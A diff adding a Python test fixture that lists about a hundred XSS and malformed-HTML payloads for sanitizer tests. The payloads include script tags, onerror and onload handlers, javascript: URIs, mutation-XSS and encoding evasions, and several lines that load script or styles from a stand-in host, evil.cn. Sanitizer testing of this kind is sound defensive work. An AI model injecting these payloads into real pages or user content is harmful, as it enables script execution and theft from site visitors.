@@ -1,0 +1,27 @@
+"""Messages that mean harm, for the tests in CPython and in Chromium: none may run, fetch by script, or leave its place."""
+
+NASTY = [
+    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.cn/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)", "</script><script>alert(1)//",
+    "<img src=x onerror=alert(1)>", '<img src="x" onerror="alert(1)">', "<img/src=x/onerror=alert(1)>", "<img src='/a.png' onerror='alert(1)'>",
+    '<img src="/a.png"onerror="alert(1)">', '<img src="/a.png" onload=alert(1) x="', '<img """><script>alert(1)</script>">', "<img src=`x`onerror=alert(1)>",
+    '<img src="/a.png" srcset="javascript:alert(1)">', '<img src="javascript:alert(1)">', '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+    '<img src="/a.png&quot; onerror=&quot;alert(1)">', "<img src='/a\" onerror=\"alert(1)'>", '<img src="https://x/\' onerror=\'alert(1)">', '<img src="https://x/><script>alert(1)</script>">',
+    '<a href="javascript:alert(1)">x</a>', "<a href='JaVaScRiPt:alert(1)'>x</a>", '<a href="java\tscript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>', '<a href="&#x6A;avascript&colon;alert(1)">x</a>', '<a href="\x01javascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="https://ok.cn" onclick="alert(1)">x</a>',
+    '<a href="https://ok.cn" style="position:fixed;inset:0">x</a>', '<a href="https://ok.cn" id=EchatPlugin name=EchatPlugin>x</a>', '<a href="https://ok.cn/&quot;onmouseover=&quot;alert(1)">x</a>',
+    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<style>@import 'javascript:alert(1)'</style>", "<style>*{background:url(//evil.cn)}", "<link rel=stylesheet href=//evil.cn>", "<base href=//evil.cn>", "<meta http-equiv=refresh content=0;url=//evil.cn>",
+    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1)>",
+    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>",
+    "<div onclick=alert(1) style='position:fixed'>x</div>", "<div style=\"background:url(javascript:alert(1))\">x", "<p onmouseover=alert(1)>x</p>", "<b/onclick=alert(1)>x</b>",
+    "<template><script>alert(1)</script></template>", "<textarea><script>alert(1)</script>", "<title><img src=x onerror=alert(1)></title>", "<xmp><script>alert(1)</script></xmp>",
+    "<!--><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml <script>alert(1)</script>?>", "<!doctype html><script>alert(1)</script>",
+    "</div></div></body><h1>gone</h1>", "</p></span>", "<div><div><div>", "<b><i></b></i>", "<", ">", "<>", "</>", "< script>alert(1)</ script>", "<<script>alert(1)</script>", "<\x00script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\x3cscript\\x3e", "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "<ımg src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "<a\nhref\n=\n'javascript:alert(1)'>x</a>", "<img\nsrc='/a.png'\nonerror='alert(1)'>",
+    "<imgsrc='/a.png'>", "<custom-element onclick=alert(1)>", "<b:x onclick=alert(1)>", "<a" + "a" * 20000, "<img src='" + "/" * 20000, "<" * 5000, "<b>" * 500, "</b>" * 500, " src='" * 3000 + "<a" + " src='x" * 3000,
+]  # fmt: skip
